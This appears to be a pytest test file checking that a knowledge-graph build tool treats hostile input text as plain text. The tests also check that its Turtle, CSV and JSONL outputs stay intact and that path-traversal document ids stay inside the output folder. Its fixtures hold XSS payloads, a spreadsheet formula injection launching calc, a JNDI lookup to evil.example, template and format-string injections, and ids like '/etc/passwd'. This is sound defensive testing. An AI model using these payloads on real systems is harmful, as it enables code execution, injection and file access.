"""Hostile text goes through the whole chain: nothing runs, nothing is lost, every output stays what it is."""

from __future__ import annotations

import csv
import json
from collections.abc import Callable
from pathlib import Path

import pyoxigraph
import pytest

from tests.builds import SMALL, Ran

Kg = Callable[..., Ran]

DEAL = "Acme Motors signed an agreement with Blue River Bank. "
HOSTILE = {
    "quotes": DEAL + '"' * 5_000 + " Acme Motors sued Gray Harbor Oil.",
    "brackets": DEAL + "(" * 2_000 + "a" + ")" * 2_000 + ". " + DEAL,
    "one token": DEAL + "x" * 300_000 + " " + DEAL,
    "one line": DEAL * 500,
    "a letter a line": "\n".join("Acme" * 500),
    "control characters": DEAL + "".join(map(chr, range(1, 32))) + DEAL,
    "bidi": "\u202eAcme Motors\u202c sued \u2066Blue River Bank\u2069. " + DEAL,
    "marks": "A" + "\u0301" * 5_000 + "cme Motors sued Blue River Bank.",
    "iris": "Mr <http://evil.example/x> sued Acme Motors. Acme Motors hired Urn:Evil:X and <b> a <c> . on Monday.",
    "turtle": 'Acme "} . <a> <b> <c> . Motors sued Blue River Bank. Acme \\" """ Motors hired \'\'\' Holm.',
    "html": "Acme <script>alert(1)</script> Motors sued <img src=x onerror=alert(1)> Blue River Bank. </script><!-- Acme -->",
    "formula": "=cmd|' /C calc'!A0 sued Acme Motors. +1+1 hired Blue River Bank. @SUM(A1) left Acme Motors.",
    "template": "Acme ${jndi:ldap://evil.example/a} Motors sued {{7*7}} Blue River Bank %s %n.",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_text_is_text(name: str, tmp_path: Path, kg: Kg) -> None:
    source = tmp_path / "in"
    source.mkdir()
    (source / "hostile.txt").write_text(HOSTILE[name], encoding="utf8")
    (source / "plain.txt").write_text(SMALL, encoding="utf8")

    ran = kg("build", source, "-o", tmp_path / "out", "--no-cache")

    assert ran.code == 0, ran.err
    claims = [json.loads(line) for line in (tmp_path / "out" / "triples.jsonl").read_text(encoding="utf8").splitlines()]
    assert [c for c in claims if c["doc"] == "plain"]  # the other document is there, whatever this one holds
    turtle = (tmp_path / "out" / "graph.ttl").read_bytes()
    terms = {t.predicate.value for t in pyoxigraph.parse(turtle, format=pyoxigraph.RdfFormat.TURTLE)}
    assert not [t for t in terms if "evil" in t]
    with (tmp_path / "out" / "triples.csv").open(encoding="utf8", newline="") as lines:
        assert len({len(row) for row in csv.reader(lines)}) == 1  # no text breaks a row
    assert kg("verify", tmp_path / "out").code == 0  # every quote stands where it is said to


def test_a_name_that_climbs_out_of_the_folder_stays_inside(tmp_path: Path, kg: Kg) -> None:
    lines = [{"text": DEAL, "id": "../../../evil"}, {"text": DEAL, "id": "/etc/passwd"}, {"text": DEAL, "id": "a\0b"}]
    (tmp_path / "many.jsonl").write_text("".join(json.dumps(x) + "\n" for x in lines), encoding="utf8")
    before = sorted(p.name for p in tmp_path.parent.iterdir())

    ran = kg("build", tmp_path / "many.jsonl", "-o", tmp_path / "out")

    assert ran.code == 0, ran.err
    assert sorted(p.name for p in tmp_path.parent.iterdir()) == before
    assert kg("verify", tmp_path / "out").code == 0


def test_a_text_beyond_the_limit_is_named_and_the_others_are_read(tmp_path: Path, kg: Kg) -> None:
    (tmp_path / "long.txt").write_text("word " * 400_000, encoding="utf8")
    (tmp_path / "plain.txt").write_text(SMALL, encoding="utf8")

    ran = kg("build", tmp_path, "-o", tmp_path / "out", "--max-chars", "1000000")

    assert ran.code == 0
    assert "long.txt" in ran.err and "KG" in ran.err
    assert (tmp_path / "out" / "triples.jsonl").read_text(encoding="utf8")
